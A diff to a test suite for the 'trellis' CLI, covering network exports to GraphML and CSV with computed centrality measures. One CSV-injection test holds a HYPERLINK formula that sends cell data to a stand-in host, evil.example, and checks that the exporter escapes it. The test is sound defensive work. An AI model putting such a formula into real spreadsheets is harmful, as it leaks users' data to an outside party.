@@ -27,6 +27,8 @@ describe('trellis', () => {
   beforeAll(async () => {
     folder = await mkdtemp(join(tmpdir(), 'trellis-cli-'));
     trellis = makeRunner(join(folder, 'data'));
+    // Migrating a new data folder is the slow part of a first command: done here, under the hook's longer timeout.
+    await (await openDatabase({ dataDir: join(folder, 'data') })).close();
   });
   afterAll(async () => {
     await rm(folder, { recursive: true, force: true });
@@ -63,9 +65,13 @@ describe('trellis', () => {
     expect(graphml).toContain('Rosa Prieto');
     expect(graphml).toContain('Eva Sanz');
     expect(graphml.match(/<edge /g)).toHaveLength(2);
+    // Nothing has been analysed (no server ran): the file's measures are computed for it.
+    expect(graphml).toContain('attr.name="betweenness"');
     const csv = join(folder, 'red.csv');
     expect((await trellis('export', 'network', 'red-export', '--format', 'csv', '--table', 'nodes', '--out', csv)).code).toBe(0);
-    expect((await readFile(csv, 'utf8')).split('\r\n')[0]).toBe('id,kind,in_network,label');
+    expect((await readFile(csv, 'utf8')).split('\r\n')[0]).toBe(
+      'id,kind,in_network,label,degree,betweenness,closeness,pagerank,clustering,core,constraint,effectiveSize,community,brokerageRole',
+    );
 
     const missing = await trellis('export', 'network', 'no-such-network', '--out', out);
     expect(missing).toMatchObject({ code: 1, stderr: expect.stringContaining('no network has the slug or id "no-such-network"') });
@@ -211,7 +217,7 @@ describe('trellis', () => {
     const text = await readFile(out, 'utf8');
     expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Ver"")"`);
     expect(text).toContain(`"'@SUM(1)"`);
-    // No cell, quoted or not, starts with a formula character (the measures, which may be negative, are not computed here).
+    // No cell, quoted or not, starts with a formula character (nor does a measure: none is negative).
     expect(text).not.toMatch(/(^|,)"?[=+\-@]/m);
   });
 
